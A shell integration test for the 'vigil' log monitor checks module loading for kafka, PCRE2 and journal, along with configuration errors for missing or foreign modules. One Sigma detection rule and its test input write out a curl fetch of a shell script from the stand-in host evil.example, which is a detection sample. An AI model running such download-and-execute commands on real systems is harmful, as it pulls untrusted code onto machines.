#!/bin/sh
# Outputs and inputs whose libraries are heavy are loadable modules
# (sidecar/module.h): build/vigil links none of those libraries, a vigil that
# tails files into a file maps none of them, and one that names a kafka
# output loads vigil-kafka.so (50_kafka, 51_nats, 33_otlp and 44_journal show
# the modules working); libpcre2-8 is opened by the first Sigma regex. A module
# that cannot be loaded is a configuration error with file:line:col and the
# loader's reason, at --validate and at start.
. "$(dirname "$0")/lib.sh"
HEAVY='librdkafka|libnats|libprotobuf-c|libsystemd|libssl|libcrypto|libevent_openssl|libpcre2|vigil-[a-z]*\.so'

readelf -d "$VIGIL" | grep NEEDED >"$T/needed"
grep -E "$HEAVY" "$T/needed" && fail "$B/vigil links a library that belongs to a module"
for m in kafka nats otlp journal tcp http forward; do
    [ -f "$ROOT/$B/modules/vigil-$m.so" ] || fail "no $B/modules/vigil-$m.so"
done
readelf -d "$ROOT/$B/modules/vigil-kafka.so" | grep -q 'NEEDED.*librdkafka' \
    || fail "vigil-kafka.so does not link librdkafka"
say "binary links no module library: ok"

# File input, file output: no module library mapped once it runs.
mkdir -p "$T/logs" "$T/out"
printf 'hello\n' >"$T/logs/a.log"
cat >"$T/file.yaml" <<YEOF
service:
  state_dir: $T/state
  flush_interval: 100ms
inputs:
  - name: logs
    paths: ["$T/logs/*.log"]
    parser: plain
    read_from: head
alerts:
  format: none
outputs:
  - name: archive
    type: file
    path: $T/out
YEOF
start_vigil "$T/file.yaml"
wait_until 10 count_messages "$T/out" hello 1 || { cat "$T/vigil.err"; fail "file output got nothing"; }
grep -E "$HEAVY" "/proc/$VPID/maps" && fail "a file-only vigil maps a module library"
grep -q 'libfyaml' "/proc/$VPID/maps" || fail "maps of the wrong process read"
stop_vigil
say "file-only vigil maps no module library: ok"

# A Sigma rule with |re: PCRE2 is opened then, and the rule matches.
mkdir -p "$T/rules"
cat >"$T/rules/re.yml" <<YEOF
title: Download piped to a shell
id: 5b0c7d1e-7c61-4a51-9a59-36a0d1c00001
status: stable
logsource: {product: linux, category: process_creation}
detection:
  selection:
    CommandLine|re: '^curl .*evil\.example/[a-z]+\.sh'
  condition: selection
level: high
YEOF
: >"$T/hist"
cat >"$T/sigma.yaml" <<YEOF
service:
  state_dir: $T/state-sigma
inputs:
  - name: hist
    paths: ["$T/hist"]
    parser: shell
alerts:
  format: json
  min_severity: info
detectors:
  sigma:
    rules: [$T/rules]
YEOF
: >"$T/vigil.err"
: >"$T/vigil.out"
start_vigil "$T/sigma.yaml"
wait_until 10 grep -q 'started:' "$T/vigil.err" || { cat "$T/vigil.err"; fail "vigil with a Sigma regex did not start"; }
grep -q 'libpcre2-8' "/proc/$VPID/maps" || fail "libpcre2-8 not opened for a Sigma regex"
echo 'curl -s https://evil.example/stage.sh' >>"$T/hist"
wait_until 10 grep -q 'Download piped to a shell' "$T/vigil.out" || { cat "$T/vigil.err"; fail "the Sigma regex rule did not match"; }
stop_vigil
say "a Sigma regex opens libpcre2-8 and matches: ok"

# A kafka output: the module and librdkafka are mapped (brokers need not be up).
cat >"$T/kafka.yaml" <<YEOF
service:
  state_dir: $T/state2
inputs:
  - name: logs
    paths: ["$T/logs/*.log"]
alerts:
  format: none
outputs:
  - name: bus
    type: kafka
    brokers: 127.0.0.1:1
YEOF
: >"$T/vigil.err"
start_vigil "$T/kafka.yaml"
wait_until 10 grep -q 'started:' "$T/vigil.err" || { cat "$T/vigil.err"; fail "vigil with a kafka output did not start"; }
grep -q 'vigil-kafka\.so' "/proc/$VPID/maps" || fail "vigil-kafka.so not loaded"
grep -q 'librdkafka' "/proc/$VPID/maps" || fail "librdkafka not mapped with a kafka output"
grep -Eq 'libnats|libprotobuf-c|libsystemd' "/proc/$VPID/maps" && fail "a kafka output maps other modules' libraries"
stop_vigil
"$VIGIL" --list-options kafka | grep -q 'brokers' || fail "--list-options kafka does not show the module's options"
say "kafka output loads vigil-kafka.so: ok"

# No module where it is looked for: a configuration error naming the place.
mkdir -p "$T/empty" "$T/broken"
rc=0
VIGIL_MODULE_DIR="$T/empty" "$VIGIL" -c "$T/kafka.yaml" --validate >"$T/o" 2>"$T/e" || rc=$?
cat "$T/e"
[ "$rc" = 1 ] || fail "--validate with the module missing exited $rc, want 1"
grep -q "kafka.yaml:10:11: outputs\[0\].type: output type 'kafka': module vigil-kafka.so not found in $T/empty" "$T/e" \
    || fail "missing module not reported with file:line:col and where it was looked for"
# A module that is not a shared object: the loader's reason is shown.
head -c 4096 /dev/zero >"$T/broken/vigil-journal.so"
cat >"$T/journal.yaml" <<YEOF
service:
  state_dir: $T/state3
inputs:
  - name: j
    type: journal
outputs:
  - name: out
    type: stdout
YEOF
rc=0
VIGIL_MODULE_DIR="$T/broken" "$VIGIL" -c "$T/journal.yaml" >"$T/o" 2>"$T/e" || rc=$?
cat "$T/e"
[ "$rc" = 1 ] || fail "starting with a broken module exited $rc, want 1"
grep -q "journal.yaml:5:11: inputs\[0\].type: input type 'journal': cannot load module $T/broken/vigil-journal.so: .*vigil-journal.so: invalid ELF header" "$T/e" \
    || fail "broken module not reported with file:line:col and the dlerror text"
[ ! -d "$T/state3" ] || fail "vigil started although its module could not be loaded"
# A shared object that is not a vigil module of this version is refused.
lz4=$(ldd "$VIGIL" | awk '/liblz4/ {print $3}')
[ -f "$lz4" ] || fail "no liblz4 found to stand in for a foreign module"
cp "$lz4" "$T/broken/vigil-journal.so"
rc=0
VIGIL_MODULE_DIR="$T/broken" "$VIGIL" -c "$T/journal.yaml" --validate >"$T/o" 2>"$T/e" || rc=$?
[ "$rc" = 1 ] || fail "a foreign shared object as module: --validate exited $rc, want 1"
grep -q "module $T/broken/vigil-journal.so is not from vigil" "$T/e" || { cat "$T/e"; fail "a foreign module not refused"; }
say "a module that cannot be loaded is a config error: ok"
